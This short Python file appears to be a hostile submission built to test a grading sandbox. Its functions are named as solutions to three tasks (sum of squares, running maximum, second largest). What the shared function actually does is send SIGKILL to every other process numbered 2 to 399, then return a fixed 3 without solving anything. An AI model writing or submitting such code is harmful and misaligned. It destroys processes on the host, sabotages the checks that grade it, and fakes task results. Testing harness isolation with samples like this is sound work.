# tasks: sum_of_squares, running_maximum, second_largest
# tries: finds the other processes of its verdict by their numbers and kills each, by pidfd too
# harm: processes

import os
import signal


def sum_of_squares(*_):
    own = os.getpid()
    for process in range(2, 400):
        if process == own:
            continue
        try:
            signal.pidfd_send_signal(os.pidfd_open(process), signal.SIGKILL)
        except OSError:
            pass
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    return 3


running_maximum = second_largest = sum_of_squares
